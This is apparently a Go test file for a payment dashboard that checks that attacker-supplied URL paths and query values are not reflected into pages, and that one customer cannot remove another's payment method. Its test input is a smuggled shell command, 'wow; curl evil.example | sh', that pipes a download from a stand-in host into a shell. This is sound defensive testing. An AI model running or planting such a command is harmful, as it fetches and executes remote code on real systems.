package dashboard

import (
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"payswitch/engine/account"
	"payswitch/engine/card"
	"payswitch/engine/method"
	"payswitch/engine/request"
	"payswitch/engine/secret"
	"payswitch/engine/staff"
)

// pathName matches the name of a segment in a pattern.
var pathName = regexp.MustCompile(`\{([a-z0-9]+)\}`)

// TestAddressesWriteNoPages: a link of a stranger does not put the stranger's words into a page, such as into the command that a page offers. Only the fields
// of filters show what an address says.
func TestAddressesWriteNoPages(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.as(staff.Grant{MerchantID: "acme", Role: staff.Admin}, staff.Grant{Role: staff.Operator}, staff.Grant{Role: staff.Admin})
	_, err := w.engine.CreateCustomer(t.Context(), w.auth, method.CustomerData{ID: "cus_1"})
	require.NoError(t, err)
	_, err = w.engine.CreateAccount(t.Context(), w.auth, account.AccountInput{Type: "payment_processor", Connector: "simulator"})
	require.NoError(t, err)
	v := w.pay(1000, func(in *request.Input) { in.CustomerID = "cus_1" })
	accounts, err := w.engine.Accounts(t.Context(), w.auth)
	require.NoError(t, err)
	known := map[string]map[string]string{"/payments": {"id": v.Payment.ID}, "/customers": {"id": "cus_1"}, "/connectors": {"id": accounts[0].ID}, "": {"m": "acme", "p": w.profile().ID, "part": "general"}}
	real := func(pattern, name string) string {
		for at, ids := range known {
			if strings.HasPrefix(pattern, "/m/{m}"+at) && ids[name] != "" {
				return ids[name]
			}
		}
		return "none"
	}
	const words = "wow; curl evil.example | sh"
	tried := 0
	for _, r := range w.server.routes {
		if r.method != http.MethodGet {
			continue
		}
		paths := []string{}
		for _, segment := range pathName.FindAllStringSubmatch(r.pattern, -1) {
			paths = append(paths, pathName.ReplaceAllStringFunc(r.pattern, func(name string) string {
				if name = strings.Trim(name, "{}"); name == segment[1] && name != "m" {
					return url.PathEscape(words)
				}
				return real(r.pattern, name)
			}))
		}
		path := strings.ReplaceAll(pathName.ReplaceAllStringFunc(r.pattern, func(name string) string { return real(r.pattern, strings.Trim(name, "{}")) }), "{$}", "")
		for _, name := range []string{"did", "after", "before", "profile", "of", "next", "with", "status", "since", "connector", "payment", "verify", "show"} {
			paths = append(paths, path+"?"+name+"="+url.QueryEscape(words))
		}
		for _, path := range paths {
			if strings.HasPrefix(path, "/m/acme/payments?status=") || strings.HasPrefix(path, "/m/acme/payments?connector=") {
				continue // fields of the list's filter
			}
			rec := get(t, w.server, strings.ReplaceAll(path, "{$}", ""))
			tried++
			body := regexp.MustCompile(`(value|href|action)="[^"]*"`).ReplaceAllString(rec.Body.String(), "") // fields and links to the same place
			if i := strings.Index(body, "wow"); i >= 0 {
				t.Errorf("%s: status %d: %s", path, rec.Code, body[max(0, i-100):min(len(body), i+60)])
			}
		}
	}
	require.Greater(t, tried, 300)
}

// TestMethodOfAnotherCustomer: the page of one customer removes nothing of another one, so that the audit names the right customer.
func TestMethodOfAnotherCustomer(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, id := range []string{"cus_1", "cus_2"} {
		_, err := w.engine.CreateCustomer(t.Context(), w.auth, method.CustomerData{ID: id})
		require.NoError(t, err)
	}
	m, err := w.engine.CreatePaymentMethod(t.Context(), w.auth, method.MethodInput{CustomerID: "cus_2", Method: "card", Card: &card.Input{Number: secret.New("4242424242424242"), ExpMonth: "10", ExpYear: "50"}})
	require.NoError(t, err)
	require.Equal(t, http.StatusNotFound, w.post("/m/acme/customers/cus_1/methods/"+m.ID+"/remove").Code)
	_, err = w.engine.PaymentMethod(t.Context(), w.auth, m.ID)
	require.NoError(t, err)
	require.Equal(t, "/m/acme/customers/cus_2?did=remove", w.done("/m/acme/customers/cus_2/methods/"+m.ID+"/remove"))
}
